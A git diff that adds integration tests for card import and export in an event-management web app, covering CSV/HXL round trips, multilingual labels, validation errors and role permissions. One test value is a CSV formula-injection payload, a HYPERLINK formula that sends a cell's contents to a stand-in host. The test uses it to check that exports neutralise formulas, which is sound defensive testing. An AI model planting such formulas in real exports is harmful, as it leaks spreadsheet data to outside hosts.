@@ -25,6 +25,10 @@ import th from '../../src/web/i18n/th.json' with { type: 'json' };
 import { TAXONOMY_LABEL_PATHS, TAXONOMY_LABELS } from '../../src/domain/import/labels.ts';
 import { taxonomyVocabulary } from '../../src/domain/import/vocabularies.ts';
 import { VocabIndex } from '../../src/domain/import/values.ts';
+import { randomUUID } from 'node:crypto';
+import type { EventDetail } from '../../src/contract/events.ts';
+import { DEFAULT_FACTORS } from '../../src/domain/factors/vocabulary.ts';
+import { insertCards } from '../../src/server/db/repos/cards.ts';
 
 type Row = Record<string, string>;
 
@@ -369,6 +373,198 @@ describe.each(testBackends())('entity imports on $name', (backend) => {
       expect(done.statusCode, done.body).toBe(200);
       const rows = rowsOf((await get('/api/exports/routes?format=csv', coordinator)).body);
       expect(rows.map((r) => r.organisation)).toEqual(['Own org', 'Own org']);
+    });
+  });
+
+  describe('cards', () => {
+    const formula = '=HYPERLINK("https://example.test/?"&A1,"open")';
+    const drop = ['event_id', 'id', 'created_at'];
+    const key = (r: Row) => Object.values(r).join('|');
+    const factorOf = (kind: string) => DEFAULT_FACTORS.find((f) => f.kind === kind)!;
+    let eventId: string;
+    let detail: EventDetail;
+
+    beforeAll(async () => {
+      const items = (await get('/api/exports/cards?format=json', admin)).json<{
+        items: { event_id: string; id: string; kind: string }[];
+      }>().items;
+      eventId = items[0]!.event_id;
+      detail = (await get(`/api/events/${eventId}`, admin)).json<EventDetail>();
+      // a card with every tag, a table, a round and a formula; factors on two cards
+      const id = randomUUID();
+      const at = h.clock.now.toISOString();
+      await h.store.db.transaction().execute((trx) =>
+        insertCards(
+          trx,
+          [
+            {
+              id,
+              eventId,
+              issueKey: detail.issues[0]!.key,
+              kind: 'consequence',
+              level: 'family',
+              text: formula,
+              tags: {
+                forms: ['ForcedLabour'],
+                sectors: ['Fishing'],
+                populations: ['migrants', 'men'],
+                ilo: ['debtBondage'],
+              },
+              tableId: detail.tables[0]!.id,
+              round: 1,
+              participantId: null,
+              userId: null,
+              version: 1,
+              deleted: false,
+              createdAt: at,
+              updatedAt: at,
+            },
+          ],
+          'test',
+        ),
+      );
+      const cause = items.find((c) => c.kind === 'cause' && c.event_id === eventId)!;
+      for (const [card, factor] of [
+        [id, factorOf('consequence').id],
+        [cause.id, factorOf('cause').id],
+      ] as const) {
+        const r = await h.app.inject({
+          method: 'PUT',
+          url: `/api/events/${eventId}/cards/${card}/factor`,
+          headers: { cookie: admin },
+          payload: { factor },
+        });
+        expect(r.statusCode, r.body).toBe(200);
+      }
+    });
+
+    /** An event in another coalition with the demo event's issues and tables. */
+    const eventIn = async (cookie: string) => {
+      const r = await h.app.inject({
+        method: 'POST',
+        url: '/api/events',
+        headers: { cookie },
+        payload: {
+          name: 'Imported café',
+          startsOn: '2026-12-01',
+          endsOn: '2026-12-02',
+          issues: detail.issues,
+          tables: detail.tables.map((t) => ({ name: t.name, capacity: t.capacity })),
+        },
+      });
+      expect(r.statusCode, r.body).toBe(201);
+      return r.json<{ id: string }>().id;
+    };
+
+    it('an export (plain CSV and CSV+HXL) imports into an empty coalition’s event and exports the same', async () => {
+      const source = rowsOf(
+        (await get(`/api/exports/cards?format=csv&event=${eventId}`, admin)).body,
+      );
+      expect(source.length).toBeGreaterThan(10);
+      expect(source.filter((r) => r.factor).length).toBe(2);
+      expect(source.find((r) => r.text === `'${formula}`)).toMatchObject({
+        forms: 'ForcedLabour',
+        ilo_indicators: 'debtBondage',
+        round: '2',
+      });
+      for (const format of ['csv', 'hxl']) {
+        const fresh = await secondCoalition(h);
+        const cookie = await fresh.userWith('coordinator');
+        const target = await eventIn(cookie);
+        const file = (await get(`/api/exports/cards?format=${format}&event=${eventId}`, admin))
+          .body;
+        // the file's event is another coalition's: without a target event nothing is stored
+        const lost = await post('cards', { csv: file, dryRun: false }, cookie);
+        expect(lost.statusCode).toBe(422);
+        expect(lost.json<ImportFailure>().problems[0]).toMatchObject({
+          code: 'value_unknown',
+          column: 'event_id',
+        });
+        const dry = await post('cards', { csv: file }, cookie, `?event=${target}`);
+        expect(dry.statusCode, dry.body).toBe(200);
+        expect(dry.json<EntityImportResult>().count).toBe(source.length);
+        expect(rowsOf((await get(`/api/exports/cards?format=csv`, cookie)).body)).toEqual([]);
+        const done = await post('cards', { csv: file, dryRun: false }, cookie, `?event=${target}`);
+        expect(done.statusCode, done.body).toBe(200);
+        const again = rowsOf((await get(`/api/exports/cards?format=csv`, cookie)).body);
+        expect(comparable(again, drop, key), format).toEqual(comparable(source, drop, key));
+        expect(again.every((r) => r.event_id === target)).toBe(true);
+        const json = (await get('/api/exports/cards?format=json', cookie)).json<{
+          items: { text: string }[];
+        }>();
+        expect(json.items.filter((c) => c.text === formula)).toHaveLength(1);
+      }
+    });
+
+    it('labels in any language, the event by name; unknown values asked once; bad lines listed', async () => {
+      const fresh = await secondCoalition(h);
+      const cookie = await fresh.userWith('admin');
+      const target = await eventIn(cookie);
+      const issue = detail.issues[1]!;
+      const cause = factorOf('cause');
+      const thai = cause.labels?.th ?? cause.label;
+      const csv = [
+        'Event,Sheet,ประเภท,Level,Card text,Factor,Table name,Round number',
+        `Imported café,${issue.key},สาเหตุ / ปัจจัยผลักดัน,Family,One,${cause.label},,`,
+        `imported CAFÉ,${issue.key},push factor,ครอบครัว,Two,${thai},,`,
+        `Imported café,${issue.key},Consequence,Family,Three,Mystery factor,,`,
+        `Imported café,${issue.key},Consequence,Family,Four,mystery factor,,`,
+      ].join('\n');
+      const f = await refused('cards', { csv }, cookie);
+      expect(f.analysis?.unmatched.map((u) => [u.vocabulary, u.value, u.count])).toEqual([
+        ['factor', 'Mystery factor', 2],
+      ]);
+      const choices = { values: { factor: { 'mystery factor': '' } } };
+      const done = await post('cards', { csv, choices, dryRun: false }, cookie);
+      expect(done.statusCode, done.body).toBe(200);
+      const rows = rowsOf((await get('/api/exports/cards?format=csv', cookie)).body);
+      expect(
+        rows.map((r) => [r.event_id, r.issue, r.kind, r.level, r.text, r.factor]).sort(),
+      ).toEqual(
+        [
+          [target, issue.key, 'cause', 'family', 'One', cause.id],
+          [target, issue.key, 'cause', 'family', 'Two', cause.id],
+          [target, issue.key, 'consequence', 'family', 'Four', ''],
+          [target, issue.key, 'consequence', 'family', 'Three', ''],
+        ].sort(),
+      );
+
+      const bad = [
+        'event,issue,kind,level,text,factor,table,round',
+        `Imported café,${issue.key},cause,family,,,,`,
+        `Imported café,${issue.key},consequence,family,Wrong kind,${cause.id},,`,
+        `Imported café,${issue.key},cause,family,No such table,,Nowhere,`,
+        `Imported café,${issue.key},cause,family,Odd round,,,first`,
+        `Imported café,notAnIssue,cause,family,Odd issue,,,`,
+        `Imported café,${issue.key},cause,family,${'x'.repeat(281)},,,`,
+      ].join('\n');
+      const g = await refused('cards', { csv: bad }, cookie);
+      expect(g.problems.map((p) => [p.line, p.column, p.code])).toEqual([
+        [2, 'text', 'value_required'],
+        [3, 'factor', 'value_invalid'],
+        [4, 'table', 'value_unknown'],
+        [5, 'round', 'value_invalid'],
+        [7, 'text', 'value_too_long'],
+      ]);
+      expect(g.analysis?.unmatched.map((u) => [u.vocabulary, u.value])).toEqual([
+        ['issue', 'notAnIssue'],
+      ]);
+    });
+
+    it('a member may not import cards; another coalition’s event is not found; nothing stored', async () => {
+      const member = await h.userWith('member');
+      await refused('cards', { csv: 'issue,kind,level,text\nx,cause,family,A' }, member, 403);
+      const fresh = await secondCoalition(h);
+      const other = await fresh.userWith('admin');
+      const before = await snapshot();
+      const r = await post(
+        'cards',
+        { csv: `issue,kind,level,text\n${detail.issues[0]!.key},cause,family,A`, dryRun: false },
+        other,
+        `?event=${eventId}`,
+      );
+      expect(r.statusCode, r.body).toBe(404);
+      expect(await snapshot()).toEqual(before);
     });
   });
 });
